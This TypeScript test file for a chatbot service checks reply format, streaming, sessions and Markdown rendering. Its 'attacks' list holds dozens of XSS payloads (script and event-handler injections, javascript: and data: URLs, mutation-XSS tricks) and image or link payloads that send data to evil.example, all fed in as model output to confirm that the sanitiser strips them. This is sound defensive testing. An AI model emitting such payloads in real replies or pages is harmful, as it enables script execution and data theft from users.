import { aChatbot } from '@frontdesk/testing/factories'
import { allEvents, aVisitor, type Visitor } from '@frontdesk/testing/visitor'
import t from 'tap'
import { findBrokenPromises } from '../../../../test/harness/ledger.ts'
import { startFrontdesk } from '../../../../test/harness/start-frontdesk.ts'
import { isRefusal, post } from '../fixtures/chat-http.ts'

/** Every tag a reply may hold, with the only attribute there is. */
const harmlessTag =
  /^<(\/?(p|b|strong|i|em|ul|ol|li|a|code|pre|blockquote|h3|h4|table|thead|tbody|tr|th|td|del)|br \/|hr \/|a href="(https?:\/\/([\w-]+\.)*shop\.example[/"?#:]|mailto:|tel:)[^"<>]*"?)>$/

/** Attacks that a model may be talked into (rows 13, 14): tags, addresses, and what browsers make of broken ones. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/?secret">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p onclick="alert(1)" class="x" id="y">x</p>',
  '<b onmouseover=alert(1)//>x</b>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><html onclick=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)" target=_blank>x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://shop.example@evil.example">x</a>',
  '<a href="https://shop.example.evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://user:pass@shop.example/">x</a>',
  '<a href=x" onclick="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.example/?d=1)',
  '[x](https://evil.example/?d=jane@home.example)',
  '[x](https://evil.example/jane@home.example "title")',
  '[x][1]\n\n[1]: https://evil.example/?d=1',
  '![x](https://evil.example/p?d=1)',
  '![x][1]\n\n[1]: https://evil.example/p?d=1',
  '![x](https://shop.example/pixel.gif)',
  'https://evil.example/?d=1',
  '<https://evil.example/?d=1>',
  'www.evil.example/?d=1',
  '<javascript:alert(1)>',
  '[x](mailto:a@shop.example?body=secret)',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  '`<img src=x onerror=alert(1)>` and\n\n    <script>alert(1)</script>\n\n```html\n<script>alert(1)</script>\n```',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '<a href="https://shop.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<',
  '<p',
  '</p></div></body><script>alert(1)//',
  'a\u0000b<scr\u0000ipt>alert(1)</scr\u0000ipt>',
]

t.test('the reply to a message', async t => {
  const frontdesk = await startFrontdesk(t)
  const streaming = await aChatbot(frontdesk.db, { isStreaming: true })
  const plain = await aChatbot(frontdesk.db, { isStreaming: false })
  const visitorOf = (chatbot: { id: string }): Visitor => aVisitor({ baseUrl: frontdesk.url, chatbotId: chatbot.id })

  await t.test('is JSON of the documented shape, with the session in a header alone', async t => {
    frontdesk.model.scriptNext({ text: 'Happy to help **you**.' })
    const answer = await visitorOf(plain).ask('When do you open?')
    t.equal(answer.status, 200)
    t.equal(answer.text, '{"reply":"<p>Happy to help <strong>you</strong>.</p>","sources":[],"mode":"bot"}')
    t.equal(answer.headers.get('content-type'), 'application/json; charset=utf-8')
    t.equal(answer.headers.get('cache-control'), 'no-store')
    t.match(answer.headers.get('x-chat-session-id'), /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/)
    t.equal(answer.headers.get('set-cookie'), null)
  })

  await t.test('is a stream only where the chatbot streams and the request accepts it', async t => {
    const asked = { message: 'Hello', chatbotId: streaming.id }
    const typeOf = async (body: object, accept: string | undefined): Promise<string | undefined> =>
      (await post(frontdesk.url, body, { headers: { accept } })).headers['content-type']
    for (const accept of [
      'text/event-stream',
      'text/event-stream, application/json',
      'application/json, text/event-stream;q=0.9',
    ]) {
      t.match(await typeOf(asked, accept), 'text/event-stream', accept)
      t.match(await typeOf({ ...asked, chatbotId: plain.id }, accept), 'application/json', `${accept}, streaming off`)
    }
    for (const accept of ['application/json', '*/*', 'text/*', undefined]) {
      t.match(await typeOf(asked, accept), 'application/json', `Accept: ${accept}`)
    }
    for (const body of [
      { ...asked, message: '' },
      { ...asked, chatbotId: 'x' },
    ]) {
      isRefusal(
        t,
        await post(frontdesk.url, body, { headers: { accept: 'text/event-stream' } }),
        400,
        'a refusal is JSON',
      )
    }
    const foreign = { accept: 'text/event-stream', origin: 'https://evil.test' }
    isRefusal(t, await post(frontdesk.url, asked, { headers: foreign }), 403, 'and so is this one')
  })

  await t.test('continues the session of the header, with its earlier turns and no others', async t => {
    frontdesk.model.script({ echo: true })
    const [one, two] = [visitorOf(streaming), visitorOf(streaming)]
    await one.ask('I am Ada')
    const first = one.sessionId
    await two.ask('I am Bob')
    await one.ask('Who am I?')
    t.equal(one.sessionId, first)
    t.not(two.sessionId, first)
    const { messages } = frontdesk.model.requests.at(-1)?.body ?? { messages: [] }
    t.same(
      messages.map(({ role }) => role),
      ['system', 'user', 'assistant', 'user'],
    )
    t.same(
      messages.slice(1, 3).map(({ content }) => content),
      ['I am Ada', 'You asked: I am Ada'],
    )
    one.sessionId = undefined
    await one.ask('Who am I?')
    t.equal(frontdesk.model.requests.at(-1)?.body.messages.length, 2, 'without the header it starts over')
    t.not(one.sessionId, first)
  })

  await t.test('has Markdown as HTML, with links to the own website alone', async t => {
    const text =
      '# Hours\n\n- *Mon*: **9**\n- `Tue`\n\n1. [Shop](https://shop.example/a?b=1&c=2)\n\n> Quote\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\nCall <tel:+49123> or [mail](mailto:hi@shop.example).'
    frontdesk.model.scriptNext({ text })
    // What the website passes along may be said.
    const { body } = await visitorOf(plain).ask('Hello', { body: { contextData: { text } } })
    for (const part of [
      '<h3>Hours</h3>',
      '<li><em>Mon</em>: <strong>9</strong></li>',
      '<code>Tue</code>',
      '<a href="https://shop.example/a?b=1&amp;c=2">Shop</a>',
      '<blockquote>',
      '<td>1</td>',
      '<a href="mailto:hi@shop.example">mail</a>',
    ]) {
      t.ok(body.reply.includes(part), part)
    }
  })

  await t.test(
    'holds nothing that could run or call home, nor a NUL, whatever the model wrote (rows 13, 14, 40)',
    async t => {
      for (const attack of attacks) {
        const visitor = visitorOf(streaming)
        // In pieces of two characters, so that no tag arrives whole.
        const tokens = ['Hello there.\n\n', ...(attack.match(/[^]{1,2}/g) ?? [])]
        frontdesk.model.script({ tokens })
        // What the website passes along may be said.
        const options = { body: { contextData: { attack: attack.replaceAll('\0', '') } } }
        const json = await visitor.ask('Hello', options)
        const { events } = await visitor.stream('Hello', options)
        const done = (await allEvents(events)).at(-1)
        t.same(done?.data, json.body, 'the stream ends with the same')
        const { reply } = json.body
        const odd = (reply.match(/<[^>]*>?/g) ?? []).filter(tag => !harmlessTag.test(tag))
        t.same(odd, [], attack)
        t.notMatch(reply, /href="[^"]*evil/, attack)
        t.ok(reply.includes('Hello there.'), 'what was good is still there')
        t.same(
          (await visitor.history()).messages.map(({ text }) => text),
          ['Hello', reply, 'Hello', reply],
        )
      }
    },
  )

  await t.test('is never empty: a reply without visible text counts as a provider failure (I14)', async t => {
    const image = '![x](https://evil.example/x)'
    for (const text of [
      '',
      ' \n',
      image,
      '<script>alert(1)</script>',
      '\u200b',
      '\ufeff\u00ad',
      '&nbsp;',
      '***',
      '\u0000',
    ]) {
      // What the website passes along may be said.
      const asked = { message: 'Hello', chatbotId: plain.id, contextData: { image } }
      frontdesk.model.script({ tokens: [text] })
      isRefusal(t, await post(frontdesk.url, asked), 502, JSON.stringify(text))
    }
  })
  t.same(await findBrokenPromises(frontdesk.db), [])
})
